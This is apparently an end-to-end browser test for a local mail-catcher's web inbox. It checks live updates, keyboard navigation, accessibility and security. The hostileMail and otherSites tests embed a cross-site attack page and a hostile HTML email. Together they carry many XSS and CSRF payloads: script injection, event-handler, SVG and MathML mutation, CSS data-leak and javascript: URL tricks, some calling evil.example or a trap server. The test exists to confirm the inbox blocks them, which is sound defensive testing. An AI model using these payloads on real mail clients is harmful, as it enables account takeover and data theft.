// Opens the inbox of a running localserve in the installed Chromium, as a person, as a stranger and as an attacker.
// Called by tests/interop/browser.rs: node inbox.mjs '{"base": "http://127.0.0.1:1080", "smtp": "127.0.0.1:1025",
// "shots": "folder", "chromium": "/usr/bin/chromium"}'. Prints each step; ends with 1 at the first that fails.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, request as httpRequest } from "node:http";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { chromium } from "playwright-core";

const { base, smtp, shots, chromium: executablePath } = JSON.parse(process.argv[2]);
const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const scratch = mkdtempSync(join(tmpdir(), "mox-browser-"));
mkdirSync(shots, { recursive: true });

// ---- a server that should never be asked, and one page of it that attacks

const hits = [];
const attack = `<!doctype html><title>attack</title><body><script>
const inbox = ${JSON.stringify(base)};
const form = new URLSearchParams({ confirm: "yes", back: "" });
const tries = {
  stream: () => new Promise((done) => {
    const events = new EventSource(inbox + "/events");
    events.onopen = () => done("open");
    events.onerror = () => { events.close(); done("refused"); };
  }),
  read: () => fetch(inbox + "/").then((r) => r.text()).then(() => "read", () => "refused"),
  api: () => fetch(inbox + "/api/v1/messages").then((r) => r.text()).then(() => "read", () => "refused"),
  post: () => fetch(inbox + "/delete-all", { method: "POST", body: form, mode: "no-cors" }).then(() => "sent", () => "refused"),
  image: () => new Promise((done) => {
    const image = new Image();
    image.onload = () => done("shown");
    image.onerror = () => done("refused");
    image.src = inbox + "/message/1/part/2?inline";
  }),
  script: () => new Promise((done) => {
    const script = document.createElement("script");
    script.onload = () => done("ran");
    script.onerror = () => done("refused");
    script.src = inbox + "/message/1/raw";
    document.body.append(script);
  }),
};
window.results = (async () => {
  const results = {};
  for (const [name, act] of Object.entries(tries)) results[name] = await act();
  return results;
})();
</script><form id="form" method="post" action="${base}/delete-all"><input name="confirm" value="yes"></form>
<iframe id="frame" src="${base}/"></iframe></body>`;
const trap = createServer((request, response) => {
  if (request.url === "/attack") {
    response.setHeader("content-type", "text/html");
    return response.end(attack);
  }
  if (request.url !== "/favicon.ico") hits.push(request.url);
  response.end();
});
await new Promise((done) => trap.listen(0, "127.0.0.1", done));
const trapped = `http://127.0.0.1:${trap.address().port}`;

// ---- mail

function send(to, message, from = "amy@example.com") {
  const file = join(scratch, "message");
  writeFileSync(file, message);
  const [server, port] = smtp.split(":");
  const args = ["--server", server, "--port", port, "--from", from, "--to", to, "--data", `@${file}`, "--silent", "2"];
  const swaks = spawnSync("swaks", args, { encoding: "utf8" });
  assert.equal(swaks.status, 0, `swaks: ${swaks.stdout}${swaks.stderr}`);
}

function text(to, subject, body = "Hello Bob\nhttps://example.com/confirm?a=1&b=2") {
  return `From: Amy <amy@example.com>\nTo: ${to}\nSubject: ${subject}\nX-Tags: welcome\n\n${body}\n`;
}

const pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

function html(to, subject, document) {
  return `From: Amy <amy@example.com>
To: ${to}
Subject: ${subject}
List-Unsubscribe: <https://example.com/unsubscribe>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=outer

--outer
Content-Type: multipart/alternative; boundary=inner

--inner
Content-Type: text/plain; charset=utf-8

As text.
--inner
Content-Type: text/html; charset=utf-8

${document}
--inner--
--outer
Content-Type: image/png
Content-ID: <pixel>
Content-Disposition: inline; filename=pixel.png
Content-Transfer-Encoding: base64

${pixel}
--outer
Content-Type: application/pdf
Content-Disposition: attachment; filename="a \\"b\\" <script>.pdf"

PDF
--outer--
`;
}

const hostile = `<!doctype html><html><head><base href="${trapped}/base/">
<meta http-equiv="refresh" content="0;url=${trapped}/refresh">
<link rel="stylesheet" href="${trapped}/link.css"><link rel="prefetch" href="${trapped}/prefetch"><link rel="dns-prefetch" href="//evil.example">
<style>@import url(${trapped}/import.css); @font-face { font-family: x; src: url(${trapped}/font) } body { background: url(${trapped}/body) }
input[value^="a"] { background-image: url(${trapped}/leak-a) } p { font-family: x; cursor: url(${trapped}/cursor), auto; list-style: url(${trapped}/list) }</style></head>
<body background="${trapped}/background" onload="top.location='${trapped}/onload'"><h1>hostile</h1>
<script>fetch("${trapped}/script"); parent.document.body.remove(); top.hacked = 1; alert(1)</script>
<script src="${trapped}/script.js"></script>
<img src="${trapped}/img" srcset="${trapped}/srcset 2x" onerror="alert(2)"><img src="cid:pixel"><img src="cid:../../../message/1/raw">
<svg onload="alert(3)" xmlns:xlink="http://www.w3.org/1999/xlink"><script>alert(4)</script><image xlink:href="${trapped}/svgimage"/><use href="${trapped}/use.svg#x"/><animate onbegin="alert(5)" attributeName="x"/><foreignObject><iframe src="${trapped}/foreign"></iframe></foreignObject></svg>
<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(6)&gt;"></mglyph></mtext><maction actiontype="statusline" xlink:href="javascript:alert(7)">x</maction></math>
<iframe src="${trapped}/iframe" srcdoc="<script>alert(8)</script>"></iframe><object data="${trapped}/object"></object><embed src="${trapped}/embed">
<video src="${trapped}/video" poster="${trapped}/poster" autoplay></video><audio src="${trapped}/audio" autoplay></audio>
<form id="f" action="${trapped}/form" method="post"><input name="a" value="abc" autofocus onfocus="alert(9)"><button>send</button></form>
<a href="javascript:alert(10)">link</a><a href="${trapped}/ping" ping="${trapped}/pinged">ping</a>
<div style="background:url('${trapped}/style');behavior:url(${trapped}/htc);-moz-binding:url(${trapped}/xbl)">x</div>
<template><script>alert(11)</script></template><noscript><p title="</noscript><img src=x onerror=alert(12)>"></noscript>
<portal src="${trapped}/portal"></portal><details open ontoggle="alert(13)">d</details><marquee onstart="alert(14)">m</marquee></body></html>`;

// ---- the browser

const browser = await chromium.launch({
  executablePath,
  args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync"],
});
/** What went wrong on any page: nothing may. */
const wrong = [];

async function context(options = {}, strict = true) {
  const made = await browser.newContext({ locale: "en-GB", ...options });
  made.setDefaultTimeout(20_000);
  if (!strict) return made;
  made.on("request", (request) => {
    const url = request.url();
    if (!url.startsWith(`${base}/`) && !url.startsWith("data:")) wrong.push(`a request left the inbox: ${url}`);
  });
  made.on("page", (page) => {
    page.on("console", (message) => message.type() === "error" && wrong.push(`console: ${message.text()}`));
    page.on("pageerror", (error) => wrong.push(`page: ${error}`));
    page.on("dialog", (dialog) => { wrong.push(`dialog: ${dialog.message()}`); dialog.dismiss(); });
  });
  return made;
}

function fine(step) {
  assert.deepEqual(wrong, [], step);
  console.log(`ok: ${step}`);
}

async function accessible(page, step) {
  await page.evaluate(axe);
  const found = await page.evaluate(() => window.axe.run());
  const broken = found.violations.map((v) => `${v.impact} ${v.id}: ${v.nodes.map((n) => n.html.slice(0, 150)).join(" | ")}`);
  assert.deepEqual(broken, [], `${step}: axe-core`);
  const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  assert.ok(wide <= 0, `${step}: the page is ${wide} pixels wider than the screen`);
}

/** Tries again until it holds: what the server does by and by. */
async function eventually(step, holds) {
  const from = Date.now();
  while (!(await holds())) {
    assert.ok(Date.now() - from < 30_000, `waited in vain: ${step}`);
    await new Promise((done) => setTimeout(done, 100));
  }
}

const looks = [];
for (const [device, viewport] of [["desktop", { width: 1280, height: 800 }], ["phone", { width: 390, height: 844 }]]) {
  for (const colorScheme of ["light", "dark"]) looks.push({ device, viewport, colorScheme });
}

async function walk(pages) {
  for (const { device, viewport, colorScheme } of looks) {
    const all = await context({ viewport, colorScheme });
    const page = await all.newPage();
    for (const [name, path] of Object.entries(pages)) {
      const response = await page.goto(base + path);
      assert.equal(response.status(), 200, path);
      await page.waitForLoadState("load");
      await page.screenshot({ path: join(shots, `${name}-${device}-${colorScheme}.png`) });
      await accessible(page, `${name} ${device} ${colorScheme}`);
    }
    await all.close();
    fine(`all pages on a ${device}, ${colorScheme}`);
  }
}

/** A question to the server that no browser would ask. */
function ask(path, headers, method = "GET") {
  const { hostname, port } = new URL(base);
  return new Promise((done, failed) => {
    const asked = httpRequest({ hostname, port, path, method, headers }, (response) => {
      response.resume();
      done(response.statusCode);
    });
    asked.on("error", failed).end();
  });
}

const person = await context({ viewport: { width: 1280, height: 800 }, colorScheme: "light" });
const page = await person.newPage();
const rows = page.locator("#rows .row");
const title = () => page.title();

/** Sends a message and returns the milliseconds from its end to its row. */
async function arrives(to, subject) {
  await page.evaluate((wanted) => {
    window.appeared = new Promise((done) => {
      new MutationObserver((_, observer) => {
        if (!document.getElementById("rows").textContent.includes(wanted)) return;
        observer.disconnect();
        done(Date.now());
      }).observe(document.getElementById("rows"), { childList: true, subtree: true });
    });
    window.same = true;
  }, subject);
  send(to, text(to, subject));
  const sent = Date.now();
  const appeared = await page.evaluate(() => window.appeared);
  assert.ok(await page.evaluate(() => window.same), "the page was not loaded again");
  return appeared - sent;
}

async function liveList() {
  await page.goto(base);
  await page.getByText("Waiting for mail").waitFor();
  await page.locator("#live.on").waitFor();
  await page.screenshot({ path: join(shots, "empty-desktop-light.png"), fullPage: true });
  await accessible(page, "the empty inbox");
  for (const subject of ["first <b>mail</b> & more", "second mail"]) {
    const took = await arrives("bob@example.org", subject);
    assert.ok(took < 1000, `${subject} appeared ${took} ms after it was sent`);
    console.log(`ok: "${subject}" appeared ${took} ms after swaks ended`);
  }
  assert.equal(await rows.count(), 2);
  assert.match(await rows.first().textContent(), /second mail/, "the newest is the first");
  assert.equal(await page.getByText("Waiting for mail").count(), 0);
  await eventually("the title counts", async () => (await title()).startsWith("(2) "));
  await eventually("arrivals are said", async () => /new message/i.test(await page.locator("#said").textContent()));
  // Another window deletes: the row goes here, too.
  const other = await person.newPage();
  await other.goto(base);
  await other.locator("#rows .row a").first().click();
  await other.locator("[data-delete]").click();
  await other.locator("#confirm [data-yes]").click();
  await other.getByText("Message deleted").waitFor();
  await eventually("a deleted row vanishes", async () => (await rows.count()) === 1);
  await other.close();
  fine("the list is live");
}

// Does what leads to another page, and waits until that page listens: a key pressed before goes nowhere.
async function turns(act) {
  const loaded = page.waitForEvent("load");
  await act();
  await loaded;
}

async function keys() {
  await page.goto(base);
  await page.locator("#live.on").waitFor();
  const before = await rows.count();
  await page.keyboard.press("j");
  await page.keyboard.press("j");
  assert.equal(await page.locator(".row.at").count(), 1);
  assert.equal(await rows.nth(1).evaluate((row) => row.classList.contains("at")), true);
  await page.keyboard.press("k");
  const chosen = await page.locator(".row.at").getAttribute("id");
  await page.keyboard.press("x");
  await page.getByText("1 selected").waitFor();
  await page.keyboard.press("#");
  await page.locator("#confirm[open]").waitFor();
  await page.keyboard.press("Escape");
  assert.equal(await rows.count(), before, "Escape deletes nothing");
  await page.keyboard.press("#");
  await page.locator("#confirm [data-yes]").focus();
  await page.keyboard.press("Enter");
  await page.getByText("Message deleted").waitFor();
  await page.locator("#live.on").waitFor();
  assert.equal(await page.locator(`#${chosen}`).count(), 0);
  await page.keyboard.press("?");
  await page.locator("#keys[open]").waitFor();
  await page.keyboard.press("Escape");
  await page.keyboard.press("/");
  assert.equal(await page.evaluate(() => document.activeElement.id), "search");
  await page.keyboard.press("Escape");
  await page.keyboard.press("j");
  await turns(() => page.keyboard.press("Enter"));
  await page.locator("[data-message]").waitFor();
  const read = page.url();
  await turns(() => page.keyboard.press("j"));
  assert.notEqual(page.url(), read, "j leads to the next message");
  await page.locator("[data-message]").waitFor();
  await turns(() => page.keyboard.press("u"));
  await page.getByText("marked as unread").waitFor();
  await page.locator("#rows .row.unseen").first().waitFor();
  await turns(() => page.locator("#rows .row a").first().click());
  await page.locator("[data-message]").waitFor();
  await turns(() => page.keyboard.press("Escape"));
  await page.locator("#listing").waitFor();
  // By Tab alone: the first stop leads past the navigation.
  await page.reload();
  await page.keyboard.press("Tab");
  assert.equal(await page.evaluate(() => document.activeElement.className), "skip");
  await page.keyboard.press("Enter");
  assert.equal(await page.evaluate(() => document.activeElement.id), "main");
  // The chosen colours are kept.
  await page.locator("[data-theme-next]").click();
  await page.locator("[data-theme-next]").click();
  await page.reload();
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), "dark");
  await page.locator("[data-theme-next]").click();
  fine("keys");
}

async function withoutScripts(id) {
  const plain = await context({ viewport: { width: 1280, height: 800 }, javaScriptEnabled: false });
  const page = await plain.newPage();
  await page.goto(base);
  assert.equal(await page.locator("#rows .row").count(), 50);
  await page.getByRole("link", { name: "Older" }).click();
  assert.ok((await page.locator("#rows .row").count()) > 0, "the second page");
  await page.goto(`${base}/message/${id}`);
  for (const [view, shows] of Object.entries({
    HTML: page.frameLocator("iframe").getByRole("heading", { name: "Welcome" }),
    Text: page.locator(".text-body", { hasText: "As text." }),
    Headers: page.getByRole("rowheader", { name: "List-Unsubscribe" }),
    Attachments: page.getByText("pixel.png"),
    Source: page.locator(".source", { hasText: "--outer" }),
    Transcript: page.locator(".exchange", { hasText: "RCPT TO" }),
    Authentication: page.getByRole("rowheader", { name: "dmarc" }),
    Events: page.locator(".step").first(),
    Report: page.getByRole("heading", { name: "List-Unsubscribe" }),
  })) {
    await page.locator(".tabs").getByRole("link", { name: view }).click();
    await shows.waitFor();
  }
  await page.goto(base);
  await eventually("search finds it", async () => {
    await page.locator("#search").fill("needle");
    await page.locator("#search").press("Enter");
    return (await page.locator("#rows .row").count()) === 1;
  });
  await page.locator("#rows .row a").first().click();
  await page.getByRole("link", { name: "Release" }).click();
  await page.getByRole("button", { name: "Check where it goes" }).click();
  await page.getByText("What will happen").waitFor();
  await page.getByRole("button", { name: "Release now" }).click();
  await page.getByText("Message released").waitFor();
  await page.goto(`${base}/?q=needle`);
  await page.locator("input[name=id]").first().check();
  await page.locator("#bulk button[value=delete]").click();
  await page.getByText("One message will be deleted").waitFor();
  await page.getByRole("button", { name: "Delete" }).click();
  await page.getByText("Message deleted").waitFor();
  await page.goto(`${base}/chaos`);
  await page.locator(".preset button").first().click();
  await page.getByText("Rule added").waitFor();
  await page.getByRole("button", { name: "Remove" }).first().click();
  await page.getByText("Rule removed").waitFor();
  await plain.close();
  fine("without scripts everything can be read and done");
}

async function hostileMail() {
  send("eve@example.org", html("eve@example.org", "hostile <script>alert(0)</script>", hostile), "eve@evil.example");
  await page.goto(`${base}/?mailbox=eve%40example.org`);
  const pages = person.pages().length;
  await page.locator("#rows .row a").first().click();
  const address = page.url();
  const frame = page.frameLocator("iframe");
  await frame.getByText("hostile").first().waitFor();
  await page.waitForTimeout(1000);
  assert.equal(page.url(), address, "the page stays");
  assert.equal(person.pages().length, pages, "no page opens");
  assert.equal(await page.evaluate(() => window.hacked), undefined);
  await page.screenshot({ path: join(shots, "hostile-desktop-light.png") });
  const id = address.match(/message\/(\d+)/)[1];
  for (const view of ["text", "headers", "attachments", "source", "transcript", "authentication", "events", "report"]) {
    await page.goto(`${base}/message/${id}?view=${view}`);
  }
  // The document alone, outside of its frame.
  await page.goto(`${base}/message/${id}/html`);
  await page.waitForTimeout(500);
  assert.equal(new URL(page.url()).pathname, `/message/${id}/html`);
  assert.deepEqual(hits, [], "nothing was fetched");
  fine("hostile HTML does nothing");
}

async function otherSites() {
  const kept = async () => {
    await page.goto(base);
    return rows.count();
  };
  const before = await kept();
  assert.ok(before > 0);
  const stranger = await context({}, false);
  // Another site, and another port of the same host.
  for (const from of [trapped.replace("127.0.0.1", "localhost"), trapped]) {
    const evil = await stranger.newPage();
    const framed = [];
    evil.on("response", (response) => response.url() === `${base}/` && framed.push(response.status()));
    await evil.goto(`${from}/attack`);
    const results = await evil.evaluate(() => window.results);
    const { post, ...reads } = results;
    assert.deepEqual(new Set(Object.values(reads)), new Set(["refused"]), JSON.stringify(results));
    assert.ok(framed.length > 0 && framed.every((status) => status === 403), `frame: ${framed}`);
    const [response] = await Promise.all([
      evil.waitForNavigation(),
      evil.evaluate(() => document.getElementById("form").submit()),
    ]);
    assert.equal(response.status(), 403, "a form of another site");
    await evil.close();
  }
  await stranger.close();
  assert.equal(await kept(), before, "nothing was deleted");
  const host = new URL(base).host;
  for (const [what, status, path, headers, method] of [
    ["our host", 200, "/", { host }],
    ["a foreign host", 421, "/", { host: "evil.example" }],
    ["a foreign host and its port", 421, "/events", { host: `evil.example:${new URL(base).port}` }],
    ["a foreign origin", 403, "/", { host, origin: "http://evil.example" }],
    ["an event stream for another site", 403, "/events", { host, origin: "http://evil.example", "sec-fetch-site": "cross-site" }],
    ["a form of a sandboxed frame", 403, "/delete-all", { host, origin: "null" }, "POST"],
  ]) {
    assert.equal(await ask(path, headers, method), status, what);
  }
  fine("other sites and other hosts are refused");
}

try {
  await liveList();
  for (let n = 1; n <= 56; n++) send(n % 3 ? "bob@example.org" : "ann@example.org", text("bob@example.org", `mail ${n}`));
  send("bob@example.org", text("bob@example.org", "needle"));
  const nice = `<h1>Welcome</h1><p style="color:teal">Dear Bob, <a href="https://example.com/">come in</a>. <img src="cid:pixel" width="40" height="40" alt="a dot"></p>`;
  send("bob@example.org", html("bob@example.org", "with HTML", nice));
  await page.goto(base);
  const id = Number(await rows.first().getAttribute("data-id"));
  await page.goto(`${base}/message/${id}`);
  const image = page.frameLocator("iframe").locator("img");
  await image.waitFor();
  assert.equal(await image.evaluate((it) => it.naturalWidth), 1, "images of the message itself are shown");
  const download = await Promise.all([
    page.waitForEvent("download"),
    page.goto(`${base}/message/${id}?view=attachments`).then(() => page.locator(".file a").last().click()),
  ]);
  assert.match(download[0].suggestedFilename(), /^a .*\.pdf$/);
  send("bob@example.org", text("bob@example.org", "to be deleted by keys"));
  await keys();
  await withoutScripts(id);
  send("bob@example.org", text("bob@example.org", "forged").replaceAll("amy@example.com", "amy@dmarc-reject.lab.test"), "amy@dmarc-pass.lab.test");
  await page.goto(`${base}/?subject=forged`);
  await rows.first().locator("a").first().click();
  await page.locator(".verdicts", { hasText: "dmarc fail" }).focus();
  await page.keyboard.press("Enter");
  await page.getByText("would refuse this message").waitFor();
  const forged = page.url().match(/message\/(\d+)/)[1];
  await walk({
    list: "/", mailbox: "/?mailbox=bob%40example.org", search: "/?subject=mail+5", nothing: "/?subject=nothing-like-that", older: "/?before=40",
    html: `/message/${id}`, text: `/message/${id}?view=text`, headers: `/message/${id}?view=headers`,
    attachments: `/message/${id}?view=attachments`, source: `/message/${id}?view=source`,
    transcript: `/message/${id}?view=transcript`, authentication: `/message/${id}?view=authentication`, forged: `/message/${forged}?view=authentication`, events: `/message/${id}?view=events`, report: `/message/${id}?view=report`,
    release: `/message/${id}/release`, delete: `/message/${id}/delete`, "delete-all": "/delete-all",
    chaos: "/chaos", queue: "/admin/queue", help: "/help",
  });
  await hostileMail();
  await otherSites();
} catch (error) {
  console.error(error);
  if (wrong.length > 0) console.error("seen before:", wrong);
  await page.screenshot({ path: join(shots, "failed.png") }).catch(() => {});
  process.exitCode = 1;
} finally {
  await browser.close();
  trap.close();
  trap.closeAllConnections();
  rmSync(scratch, { recursive: true, force: true });
}
